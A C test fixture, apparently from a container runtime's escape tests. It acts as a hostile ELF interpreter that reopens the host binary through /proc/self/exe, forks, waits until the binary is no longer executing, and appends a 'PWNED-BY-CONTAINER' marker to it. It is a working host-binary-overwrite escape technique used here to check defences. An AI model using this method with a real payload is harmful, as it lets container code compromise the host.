/* The attacker's "dynamic loader" of the host-binary escape test (tests/escapes.rs): the
 * kernel runs it when the host's tong binary is exec'd inside the container. It keeps
 * the exe as an O_PATH descriptor, forks, and the child appends a marker to the binary
 * once no process runs it any more (ETXTBSY until then). Freestanding: as an ELF
 * interpreter, libc's startup would read the auxv of the binary it "loads". x86_64. */
#include <asm/unistd.h>

static long sys3(long n, long a, long b, long c)
{
	long ret;
	__asm__ volatile("syscall" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c)
			 : "rcx", "r11", "memory");
	return ret;
}
__asm__(".text\n.global _start\n_start:\n  and $-16, %rsp\n  call attack\n  hlt\n");

void __attribute__((noreturn, used)) attack(void)
{
	long fd = sys3(__NR_open, (long)"/proc/self/exe", 010000000 /* O_PATH */, 0);
	if (fd >= 0 && sys3(__NR_fork, 0, 0, 0) == 0) {
		char path[] = "/proc/self/fd/\0\0\0";
		path[14] = '0' + fd / 10 % 10;
		path[15] = '0' + fd % 10;
		if (fd < 10) { path[14] = '0' + fd; path[15] = 0; }
		for (int i = 0; i < 200; i++) {
			long w = sys3(__NR_open, (long)path, 01 | 02000 /* O_WRONLY|O_APPEND */, 0);
			if (w >= 0) {
				sys3(__NR_write, w, (long)"PWNED-BY-CONTAINER", 18);
				break;
			}
			long ts[2] = {0, 25000000};
			sys3(__NR_nanosleep, (long)ts, 0, 0);
		}
	}
	for (;;)
		sys3(__NR_exit_group, 0, 0, 0);
}
